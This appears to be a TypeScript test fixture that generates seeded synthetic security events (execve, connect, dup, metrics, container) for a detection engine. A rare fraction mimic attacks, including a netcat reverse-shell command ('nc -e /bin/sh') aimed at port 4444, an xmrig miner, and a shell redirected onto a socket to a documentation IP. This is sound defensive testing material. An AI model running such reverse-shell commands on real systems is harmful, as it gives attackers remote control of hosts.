import type { ProcAncestor, VigilEvent } from '../../rules/event.js';

/** Deterministic PRNG (mulberry32) so every run sees the same mix. */
function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const NAMES = ['sh', 'bash', 'ls', 'cat', 'python3', 'node', 'nginx', 'grep', 'ps', 'curl', 'java', 'sleep', 'awk', 'sed', 'date', 'kubectl', 'runc', 'containerd-shim', 'tar', 'wc'];
const PARENTS: ProcAncestor[][] = [
  [
    { pid: 900, name: 'containerd-shim', exepath: '/usr/bin/containerd-shim-runc-v2' },
    { pid: 1, name: 'systemd', exepath: '/usr/lib/systemd/systemd' },
  ],
  [
    { pid: 1200, name: 'bash', exepath: '/usr/bin/bash', args: [] },
    { pid: 1100, name: 'sshd', exepath: '/usr/sbin/sshd', args: ['-D'] },
    { pid: 1, name: 'systemd' },
  ],
  [
    { pid: 300, name: 'nginx', exepath: '/usr/sbin/nginx' },
    { pid: 1, name: 'tini' },
  ],
  [
    { pid: 400, name: 'node', exepath: '/usr/local/bin/node', args: ['server.js'] },
    { pid: 1, name: 'dumb-init' },
  ],
];
const CONTAINERS = Array.from({ length: 12 }, (_, i) => ({
  id: i.toString(16).repeat(64).slice(0, 64),
  name: `app-${i}`,
  image: `registry.example/app${i}:1.${i}`,
  imageRepository: `registry.example/app${i}`,
  imageTag: `1.${i}`,
  privileged: i === 3,
  runtime: 'containerd',
  labels: { app: `app${i}` },
}));
const PORTS = [443, 443, 443, 80, 5432, 53, 8080, 6379, 9092];

/**
 * A realistic mix: 44% execve, 30% connect, 15% metric samples, 5% procexit,
 * 3% accept, 2% dup, 1% container; about 0.2% are built to match a rule (a
 * miner, a package manager, a network tool, a mining-pool port, a new pod
 * edge, a shell on a socket, a full disk), the rest is ordinary traffic.
 */
export function makeEvents(count: number, seed = 42): VigilEvent[] {
  const r = rng(seed);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;
  const out: VigilEvent[] = [];
  let t = 1_700_000_000_000;
  for (let i = 0; i < count; i++) {
    t += 1;
    const u = r();
    const inContainer = r() < 0.7;
    const c = inContainer ? pick(CONTAINERS) : undefined;
    const k8s = c ? { ns: r() < 0.2 ? 'kube-system' : 'prod', podName: `${c.name}-5d8f-x${i % 7}`, workloadKind: 'Deployment', workloadName: c.name } : undefined;
    const rare = r() < 0.002;
    if (u < 0.44) {
      const name = rare ? pick(['xmrig', 'apt-get', 'nc', 'nmap', 'wget', 'bash']) : pick(NAMES);
      out.push({
        type: 'execve',
        source: 'syscall',
        timeMs: t,
        proc: {
          pid: 10_000 + i,
          vpid: inContainer ? 20 + (i % 50) : 10_000 + i,
          name,
          exe: name,
          exepath: `/usr/bin/${name}`,
          args: name === 'nc' ? ['-e', '/bin/sh', '10.0.0.1', '4444'] : ['-c', `echo ${i}`],
          tty: rare ? 34816 : 0,
          uid: 0,
          user: 'root',
          cwd: '/',
          isExeUpperLayer: rare && r() < 0.3,
          startTimeMs: t,
          // Web-server parents (a shell under one matches a rule) are rare.
          ancestors: rare ? pick(PARENTS) : PARENTS[i % 2]!,
        },
        ...(c ? { container: c } : {}),
        ...(k8s ? { k8s } : {}),
      });
    } else if (u < 0.74) {
      const rport = rare ? 4444 : pick(PORTS);
      const rip = rare ? pick(['203.0.113.7', '198.51.100.1']) : r() < 0.6 ? `10.${i % 256}.${(i >> 8) % 256}.7` : `93.184.${i % 256}.34`;
      const lip = '10.244.1.17';
      const src = k8s ? `${k8s.ns}/Deployment/${c!.name}/app` : 'host';
      const dst = rip.startsWith('10.') ? 'prod/Deployment/db/db' : `external:${rip}`;
      out.push({
        type: 'connect',
        source: 'syscall',
        timeMs: t,
        proc: { pid: 10_000 + (i % 300), name: pick(['curl', 'node', 'java', 'python3', 'nginx']), args: [], ancestors: pick(PARENTS) },
        fd: {
          type: 'ipv4',
          l4proto: 'tcp',
          cip: lip,
          cport: 30_000 + (i % 30_000),
          sip: rip,
          sport: rport,
          lip,
          lport: 30_000 + (i % 30_000),
          rip,
          rport,
          name: `${lip}:${30_000 + (i % 30_000)}->${rip}:${rport}`,
          direction: 'out',
        },
        edge: { src, dst, port: rport, proto: 'tcp', key: `${src} -> ${dst}:${rport}/tcp`, learning: false, isNew: rare, external: !rip.startsWith('10.') },
        ...(c ? { container: c } : {}),
        ...(k8s ? { k8s } : {}),
      });
    } else if (u < 0.89) {
      const kind = pick(['node', 'filesystem', 'filesystem', 'container'] as const);
      if (kind === 'node') {
        out.push({ type: 'metric', source: 'metrics', timeMs: t, metric: { subject: 'node', values: { 'node.cpu.iowait_ratio': rare ? 0.5 : r() * 0.1, 'node.cpu.usage_ratio': r() } } });
      } else if (kind === 'filesystem') {
        const mp = pick(['/', '/var', '/var/lib/containerd', '/boot', '/run']);
        out.push({
          type: 'metric',
          source: 'metrics',
          timeMs: t,
          metric: {
            subject: 'filesystem',
            values: { 'fs.used_ratio': rare ? 0.97 : r() * 0.8, 'fs.avail_bytes': 1e10 * r(), 'fs.readonly': 0 },
            labels: { mountpoint: mp, device: '/dev/sda1', fstype: mp === '/run' ? 'tmpfs' : 'ext4' },
          },
        });
      } else {
        const cc = pick(CONTAINERS);
        out.push({
          type: 'metric',
          source: 'metrics',
          timeMs: t,
          metric: { subject: 'container', values: { 'container.cpu.limit_ratio': rare ? 0.99 : r() * 0.7 }, labels: { id: cc.id } },
          container: cc,
        });
      }
    } else if (u < 0.94) {
      out.push({ type: 'procexit', source: 'syscall', timeMs: t, proc: { pid: 10_000 + i, name: pick(NAMES) }, ...(c ? { container: c } : {}) });
    } else if (u < 0.97) {
      out.push({
        type: 'accept',
        source: 'syscall',
        timeMs: t,
        proc: { pid: 300, name: 'nginx' },
        fd: { type: 'ipv4', l4proto: 'tcp', cip: '10.244.2.9', cport: 41_000, sip: '10.244.1.17', sport: 80, lip: '10.244.1.17', lport: 80, rip: '10.244.2.9', rport: 41_000, direction: 'in' },
        edge: {
          src: 'prod/Deployment/web/web',
          dst: 'prod/Deployment/api/api',
          port: 80,
          proto: 'tcp',
          key: 'prod/Deployment/web/web -> prod/Deployment/api/api:80/tcp',
          learning: false,
          isNew: false,
          external: false,
        },
        ...(c ? { container: c } : {}),
      });
    } else if (u < 0.99) {
      // Mostly daemons whose stdout is a socket (inetd-style services), rarely a shell.
      const shell = rare;
      out.push({
        type: 'dup',
        source: 'syscall',
        timeMs: t,
        rawres: shell ? pick([0, 1, 2]) : pick([3, 3, 3, 1]),
        proc: { pid: 500, name: shell ? 'sh' : pick(['sshd', 'xinetd', 'java', 'redis-server']) },
        fd: {
          type: 'ipv4',
          l4proto: 'tcp',
          sip: '203.0.113.7',
          sport: 4444,
          cip: '10.244.1.17',
          cport: 50_000,
          name: '10.244.1.17:50000->203.0.113.7:4444',
          direction: 'out',
          ...(shell && r() < 0.5 ? { relayPid: 499, relayName: 'nc' } : {}),
        },
        ...(c ? { container: c } : {}),
      });
    } else {
      const cc = pick(CONTAINERS);
      out.push({
        type: 'container',
        source: 'syscall',
        timeMs: t,
        container: { ...cc, state: r() < 0.5 ? 'started' : 'stopped' },
        ...(rare || r() < 0.95 ? { k8s: { ns: 'prod', podName: `${cc.name}-5d8f-x${i % 7}` } } : {}),
      });
    }
  }
  return out;
}
